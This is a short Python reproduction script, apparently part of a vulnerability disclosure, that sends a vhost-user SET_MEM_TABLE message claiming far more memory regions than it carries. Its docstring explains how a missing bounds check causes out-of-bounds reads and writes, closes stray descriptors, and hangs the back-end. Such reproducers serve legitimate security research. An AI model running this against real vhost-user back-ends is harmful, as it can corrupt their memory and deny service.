#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""SET_MEM_TABLE whose nregions exceeds the regions and fds the message
carries (REPRO_NREGIONS, default 255; try 4294967295 too).

vu_set_mem_table_exec() copies the payload into a local VhostUserMemory
(room for VHOST_MEMORY_BASELINE_NREGIONS = 8 regions) and loops
    for (i = 0; i < memory->nregions; i++)
with nregions from the message and no check against the number of fds
received or the size of the table: it reads regions past the local copy
(stack), mmap()s and close()s vmsg->fds[i] past the fds received (whatever
the message struct holds there, including other descriptors of the
back-end's), and fills dev->regions[i] past VHOST_USER_MAX_RAM_SLOTS.  With
2^32-1 the loop runs for hours.  

usage: repro_mem_table.py SOCKET
"""
import os
import struct
import time

from _common import args, say, vuattack as vu

sock, = args(1)
for n in (int(os.environ.get("REPRO_NREGIONS", "255"), 0),):
    try:
        c = vu.Conn(sock, timeout=3)
        c.negotiate()
        mem = vu.Memory(1 << 20)
        payload = vu.mem_table([mem.region()], nregions=n)
        c.send(vu.SET_MEM_TABLE, payload, [mem.fd], flags=vu.NEED_REPLY)
        try:
            rp = c.recv()[2]
            say("SET_MEM_TABLE nregions=%d (1 fd, 1 region in the payload) -> ack %d" % (
                n, struct.unpack("<Q", rp[:8])[0] if len(rp) >= 8 else -1))
        except (vu.Closed, vu.Timeout) as e:
            say("SET_MEM_TABLE nregions=%d -> %s: %s" % (n, type(e).__name__, e))
        c.close()
    except (vu.Closed, vu.Timeout, OSError) as e:
        say("connection for nregions=%d: %s: %s" % (n, type(e).__name__, e))
    time.sleep(0.5)
    ok, why = vu.serves(sock, 3)
    say("honest client after nregions=%d: %s" % (n, why))
